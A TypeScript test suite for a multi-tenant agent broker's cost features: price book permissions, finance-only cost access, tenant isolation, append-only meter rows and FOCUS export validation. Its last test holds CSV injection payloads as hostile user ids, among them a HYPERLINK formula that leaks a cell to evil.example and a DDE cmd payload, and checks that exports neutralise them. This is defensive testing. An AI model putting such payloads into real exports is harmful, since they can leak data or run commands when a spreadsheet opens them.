import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createTenantWithKeys, startTestBroker, uniqueName, type TestBroker } from '../support/test-broker.js';
import { brokerClaims, describeFocusReport, parseFocusCsv, validateFocus } from '../data/focus-validator.js';

/**
 * Who may read and change prices and costs, tenant isolation of costs,
 * request validation, append-only meter rows, and the FOCUS validator's own
 * ability to fail.
 */
describe('costs: access, isolation and the price book', () => {
  let sb: TestBroker;
  let one: Awaited<ReturnType<typeof createTenantWithKeys<'app' | 'admin' | 'finance' | 'auditor'>>>;
  let two: Awaited<ReturnType<typeof createTenantWithKeys<'finance'>>>;
  let sessionId: string;

  before(async () => {
    sb = await startTestBroker();
    one = await createTenantWithKeys(sb, ['app', 'admin', 'finance', 'auditor']);
    two = await createTenantWithKeys(sb, ['finance']);
    const name = uniqueName('agent');
    const agent = await sb.as(one.keys.admin.key).post('/v1/agents', { name, defaultProvider: 'claude', targets: { claude: sb.broker.runtimes.demoTargets().claude } });
    assert.equal(agent.status, 201, agent.text);
    const app = sb.as(one.keys.app.key, { 'x-end-user': 'carol' });
    const session = await app.post('/v1/sessions', { agent: name });
    sessionId = session.json.id;
    const turn = await app.post(`/v1/sessions/${sessionId}/turns`, { input: 'hello' });
    assert.equal(turn.status, 200, turn.text);
  });
  after(() => sb.close());

  test('version 1 of the price book is the published list, each price with its source and date', async () => {
    const book = await sb.as(one.keys.app.key).get('/v1/prices?version=1');
    assert.equal(book.status, 200, book.text);
    assert.deepEqual(book.json.changedBy, { kind: 'system', id: null, requestId: null });
    const price = (provider: string, unit: string) => book.json.prices.find((entry: { provider: string; unit: string }) => entry.provider === provider && entry.unit === unit)?.unitPrice;
    assert.deepEqual(
      [price('claude', 'session-hour'), price('agentcore', 'vcpu-hour'), price('agentcore', 'gib-hour'), price('foundry', 'vcpu-hour'), price('foundry', 'gib-hour'), price('vertex', 'vcpu-hour'), price('vertex', 'gib-hour')],
      ['0.08', '0.0895', '0.00945', '0.0994', '0.0118', '0.0864', '0.009'],
    );
    for (const entry of book.json.prices) {
      assert.match(entry.source, /^https:\/\//);
      assert.match(entry.effectiveDate, /^\d{4}-\d{2}-\d{2}$/);
      assert.equal(entry.currency, 'USD');
    }
  });

  test('every tenant role and the operator read prices; only the operator changes them', async () => {
    for (const key of [one.keys.app.key, one.keys.admin.key, one.keys.auditor.key, one.keys.finance.key]) assert.equal((await sb.as(key).get('/v1/prices')).status, 200);
    assert.equal((await sb.operator.get('/v1/prices')).status, 200);
    // The operator's successful changes are in costs.test.ts: the price book is platform-wide, and test files share PostgreSQL.
    const change = { prices: [{ provider: 'vertex', unit: 'vcpu-hour', unitPrice: '0.08', source: 'enterprise discount', effectiveDate: '2025-12-01' }] };
    for (const key of [one.keys.app.key, one.keys.admin.key, one.keys.auditor.key, one.keys.finance.key]) assert.equal((await sb.as(key).put('/v1/prices', change)).status, 403);
  });

  test('bad price changes are 400 with every problem listed', async () => {
    const response = await sb.operator.put('/v1/prices', {
      prices: [
        { provider: 'claude', unit: 'session-hour', unitPrice: '-1', source: 'x', effectiveDate: '2025-01-01' },
        { provider: 'nowhere', unit: 'session-hour', unitPrice: '1', source: 'x', effectiveDate: '2999-01-01' },
        { provider: 'claude', unit: 'input-mtok', unitPrice: '0.00000000001', source: 'x', effectiveDate: '2025-02-30' },
      ],
    });
    assert.equal(response.status, 400);
    const paths = response.json.errors.map((error: { path: string }) => error.path);
    for (const path of ['body.prices.0.unitPrice', 'body.prices.1.provider', 'body.prices.1.effectiveDate', 'body.prices.2.unitPrice', 'body.prices.2.effectiveDate']) assert.ok(paths.includes(path), `${path} in ${paths}`);
    assert.equal((await sb.operator.get('/v1/prices?version=99999')).status, 404);
  });

  test('costs are for the finance role only', async () => {
    for (const client of [sb.as(one.keys.app.key, { 'x-end-user': 'carol' }), sb.as(one.keys.admin.key), sb.as(one.keys.auditor.key), sb.operator]) {
      assert.equal((await client.get('/v1/costs/summary')).status, 403);
      assert.equal((await client.get('/v1/costs/export')).status, 403);
    }
    assert.equal((await sb.anonymous.get('/v1/costs/summary')).status, 401);
  });

  test('finance sees its own tenant only', async () => {
    const own = await sb.as(one.keys.finance.key).get('/v1/costs/summary?groupBy=user');
    assert.equal(own.status, 200);
    assert.deepEqual(own.json.groups.map((group: { key: string }) => group.key), ['carol']);
    assert.notEqual(own.json.total, '0');
    const other = await sb.as(two.keys.finance.key).get('/v1/costs/summary?groupBy=user');
    assert.deepEqual([other.json.total, other.json.groups], ['0', []]);
    const otherExport = await sb.as(two.keys.finance.key).get('/v1/costs/export?format=focus-csv');
    assert.equal(otherExport.status, 200);
    const { columns, rows } = parseFocusCsv(otherExport.text);
    assert.ok(columns.includes('BilledCost'));
    assert.equal(rows.length, 0, 'only the header');
    const ownExport = parseFocusCsv((await sb.as(one.keys.finance.key).get('/v1/costs/export?format=focus-csv')).text);
    assert.ok(ownExport.rows.length >= 3 && ownExport.rows.every((row) => row.ResourceId === sessionId));
  });

  test('bad periods and formats are 400', async () => {
    const finance = sb.as(one.keys.finance.key);
    for (const query of ['from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', 'from=yesterday', 'groupBy=week']) {
      assert.equal((await finance.get(`/v1/costs/summary?${query}`)).status, 400, query);
    }
    for (const query of ['format=xlsx', 'focusVersion=1.0', 'from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', 'unknown=1']) {
      assert.equal((await finance.get(`/v1/costs/export?${query}`)).status, 400, query);
    }
  });

  test('meter rows are append-only, even for the tenant that owns them', async () => {
    const { database } = sb.broker.database;
    for (const statement of [`UPDATE meter_charges SET cost = 0`, `DELETE FROM meter_records`, `UPDATE prices SET unit_price = 0`]) {
      await assert.rejects(database.inTenant(one.tenantId, (tx) => tx.rows(statement)), statement);
    }
    await assert.rejects(database.query(`DELETE FROM meter_charges WHERE tenant_id = $1`, [one.tenantId]), /append-only/, 'the trigger stops even the schema owner');
  });

  test('the FOCUS validator fails on broken copies of a real export (it can fail)', async () => {
    const body = (await sb.as(one.keys.finance.key).get('/v1/costs/export?format=focus-csv&focusVersion=1.3')).text;
    const dataset = parseFocusCsv(body);
    const options = { version: '1.3', format: 'csv', claims: brokerClaims, providerTagPrefixes: ['switchboard/'] } as const;
    assert.deepEqual(describeFocusReport(validateFocus(dataset, options)), []);
    const broken = (change: Record<string, string | null>) =>
      validateFocus({ columns: dataset.columns, rows: [{ ...dataset.rows[0], ...change }, ...dataset.rows.slice(1)] }, options).errors.map((violation) => violation.ruleId);
    assert.ok(broken({ ListCost: `${dataset.rows[0].ListCost}1` }).includes('ListUnitPrice-C-010-C'));
    assert.ok(broken({ BilledCost: null }).includes('BilledCost-C-003-M'));
    assert.ok(broken({ ChargePeriodStart: '2026-11-21 06:00:00' }).includes('ChargePeriodStart-C-002-M'));
    assert.ok(broken({ ChargeCategory: 'Usage-ish' }).includes('ChargeCategory-C-003-M'));
    assert.ok(broken({ Tags: '{"tenant":"t"}' }).includes('Tags-C-012-M'));
    assert.ok(broken({ ServiceProviderName: null }).includes('1.3-ServiceProviderName-not-null'));
  });
  // Runs last: it adds users to the tenant that the summary test above expects to hold only carol.
  test('end-user ids that look like formulas reach the CSV exports neutralised (OWASP CSV injection)', async () => {
    const hostileUsers = ['=HYPERLINK("http://evil.example/?leak="&A1,"refund")', '@SUM(1,1)', '+1+1', "-2+3;=cmd|' /C calc'!A0"];
    const agents = (await sb.as(one.keys.admin.key).get('/v1/agents')).json.data as Array<{ name: string }>;
    for (const user of hostileUsers) {
      const app = sb.as(one.keys.app.key, { 'x-end-user': user });
      const session = await app.post('/v1/sessions', { agent: agents[0].name });
      assert.equal(session.status, 201, session.text);
      assert.equal((await app.post(`/v1/sessions/${session.json.id}/turns`, { input: 'hi' })).status, 200);
    }
    for (const format of ['focus-csv', 'csv']) {
      const body = (await sb.as(one.keys.finance.key).get(`/v1/costs/export?format=${format}`)).text;
      const { columns, rows } = parseFocusCsv(body);
      const userColumn = format === 'csv' ? 'user' : 'x_UserId';
      const exported = new Set(rows.map((row) => row[userColumn]));
      for (const user of hostileUsers) assert.ok(exported.has(`'${user}`), `${format}: ${user} is exported with a leading quote`);
      for (const row of rows) {
        for (const column of columns) {
          const cell = row[column];
          if (cell === null || /^-?\d+(\.\d+)?$/.test(cell)) continue;
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${format} ${column}: ${cell}`);
        }
      }
    }
    const jsonl = (await sb.as(one.keys.finance.key).get('/v1/costs/export?format=focus-jsonl')).text.trim().split('\n').map((line) => JSON.parse(line) as { x_UserId: string });
    assert.ok(hostileUsers.every((user) => jsonl.some((line) => line.x_UserId === user)), 'JSON Lines carry the ids as given');
  });
});
